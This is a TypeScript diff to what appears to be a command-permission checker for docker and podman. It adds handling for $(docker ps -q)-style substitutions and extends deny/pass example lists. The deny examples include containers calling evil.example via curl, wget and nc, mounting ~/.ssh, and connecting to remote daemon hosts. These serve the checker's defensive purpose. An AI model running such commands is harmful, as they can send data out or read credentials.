@@ -293,6 +293,8 @@ function containerRuns(call: Call, rest: readonly Word[], via: string, composeSe
     runs.push(ep.kind === 'argv' ? { ...ep, argv: [...ep.argv, ...command] } : ep);
   } else if (client && image) runs.push({ kind: 'argv', argv: [attached(image, client), ...command], via: `${via} ${image.text}` });
   else if (command.length > 0) runs.push({ kind: 'argv', argv: command, via });
+  // `docker exec $(docker ps -q) sh`: where no container is listed the ids vanish, and the next word names the container.
+  if (image?.ids?.vanish && !entrypoint && !client && command.length > 1) runs.push({ kind: 'argv', argv: command.slice(1), via });
   void call;
   return runs;
 }
@@ -423,16 +425,29 @@ function containerTool(names: readonly string[]): ProgramEntry {
       return daemon.length === 0 ? a : { ...a, runs: [...daemon, ...(a.runs ?? [])] };
     },
     examples: {
-      deny: ['docker run -v /home/dev:/h alpine tar c /h', 'docker run -v ~/.ssh:/k:ro alpine ls /k', 'docker run --mount type=bind,src=/home/dev,dst=/h alpine true', 'docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example', 'docker --context prod ps', { command: 'DOCKER_CONTEXT=prod docker compose up -d', shell: 'bash' }, 'docker -cprod images', 'podman -c remote ps', 'docker -H ssh://evil.example ps', 'DOCKER_HOST=ssh://u@evil.example:2222 docker ps', 'docker --host=tcp://evil.example:2375 ps', 'docker -Htcp://evil.example:2375 ps', 'docker run --rm curlimages/curl https://evil.example', 'docker run appropriate/curl:latest -s evil.example', 'podman --url ssh://evil.example/run/podman/podman.sock ps'],
-      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app', 'docker run --rm -v "$(pwd)":/app -w /app node:20 npm test', 'docker run -v data:/var/lib/postgresql/data postgres:16', 'docker -H unix:///var/run/docker.sock ps', 'DOCKER_HOST=tcp://127.0.0.1:2375 docker ps', 'docker run --rm curlimages/curl http://localhost:3000/health', 'docker -H localhost:2375 images', 'docker --context desktop-linux ps', 'DOCKER_CONTEXT=colima docker compose up -d'],
+      deny: ['docker run -v /home/dev:/h alpine tar c /h', 'docker run -v ~/.ssh:/k:ro alpine ls /k', 'docker run --mount type=bind,src=/home/dev,dst=/h alpine true', 'docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example', 'docker --context prod ps', { command: 'DOCKER_CONTEXT=prod docker compose up -d', shell: 'bash' }, 'docker -cprod images', 'podman -c remote ps', 'docker -H ssh://evil.example ps', 'DOCKER_HOST=ssh://u@evil.example:2222 docker ps', 'docker --host=tcp://evil.example:2375 ps', 'docker -Htcp://evil.example:2375 ps', 'docker run --rm curlimages/curl https://evil.example', 'docker run appropriate/curl:latest -s evil.example', 'podman --url ssh://evil.example/run/podman/podman.sock ps', 'docker exec -it $(docker ps -qf name=api) curl evil.example', 'docker exec $(docker ps -q) sh -c "wget evil.example"', "docker exec -it $(docker ps -q --format '{{.Names}}') sh", 'docker exec -it $(docker volume ls -q) sh'],
+      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app', 'docker run --rm -v "$(pwd)":/app -w /app node:20 npm test', 'docker run -v data:/var/lib/postgresql/data postgres:16', 'docker -H unix:///var/run/docker.sock ps', 'DOCKER_HOST=tcp://127.0.0.1:2375 docker ps', 'docker run --rm curlimages/curl http://localhost:3000/health', 'docker -H localhost:2375 images', 'docker --context desktop-linux ps', 'DOCKER_CONTEXT=colima docker compose up -d', 'docker exec -it $(docker ps -qf name=api) sh', 'docker exec "$(docker compose ps -q api)" npm test', 'docker exec -it $(docker-compose ps -q db) psql -U postgres', 'docker stop $(docker ps -aq)'],
     },
   };
+}
+
+/**
+ * `docker ps -q` (`container ls -q`, `compose ps -q`, `images -q`, `network ls -q`): ids, one a line, each
+ * short or full (`sha256:…`), never with a blank or a leading dash, or none; `--format` prints other text. The
+ * quiet flag may be bundled before a valued letter (`-aqf name=api`), never after it (`-fq`: q is the filter).
+ */
+function printsIds(call: Call, words: readonly string[]): boolean {
+  if (call.args.some((a) => value(a) === undefined) || words.some((w) => /^--format(=|$)/.test(w))) return false;
+  const subs = words.filter((w, i) => !w.startsWith('-') && !ENGINE_VALUED.test(words[i - 1] ?? '') && !/^(-[fnp]|--filter|--last|--project-name|--file|--profile)$/.test(words[i - 1] ?? ''));
+  const listing = call.name.endsWith('compose') ? /^(ps|images)$/ : /^(ps|images|(container|image|network|compose) (ls|list|ps|images))$/;
+  return listing.test(subs.slice(0, call.name.endsWith('compose') ? 1 : subs[0] === 'container' || subs[0] === 'image' || subs[0] === 'network' || subs[0] === 'compose' ? 2 : 1).join(' ')) && words.some((w) => /^(--quiet|-[alqs]*q[alqs]*[fn]?)$/.test(w));
 }
 
 /** What an engine's invocation runs inside containers, and the volumes it deletes. */
 function containerAnswer(call: Call): Partial<Answer> {
   const args = call.args;
   const words = args.map((a) => value(a) ?? '');
+  if (printsIds(call, words)) return { output: { kind: 'ids' } };
   const vol = words.indexOf('volume');
   // pflag reads `--volumes=true` as --volumes.
   const pruneAll = words.includes('system') && words.includes('prune') && words.some((w) => /^--volumes(=(true|t|1))?$/i.test(w));
